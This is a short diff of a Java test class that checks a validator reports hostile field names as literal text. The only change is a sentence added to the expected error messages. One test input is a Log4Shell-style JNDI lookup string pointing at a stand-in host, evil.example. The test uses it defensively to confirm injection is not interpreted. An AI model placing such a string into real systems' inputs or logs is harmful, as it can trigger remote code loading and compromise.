@@ -487,8 +487,8 @@ class HostileInputTest {
         assertThat(r.findings()).extracting(Finding::path)
                 .contains("/{reason}", "/persons/0/${jndi:ldap:~1~1evil.example~1a}");
         // the field name goes in as text: "{reason}" is not replaced by the reason
-        assertThat(messages).contains("Field {reason} is invalid: unknown field.",
-                "Field ${jndi:ldap://evil.example/a} is invalid: unknown field.");
+        assertThat(messages).contains("Field {reason} is invalid: unknown field. Correct the value.",
+                "Field ${jndi:ldap://evil.example/a} is invalid: unknown field. Correct the value.");
     }
 
     /**
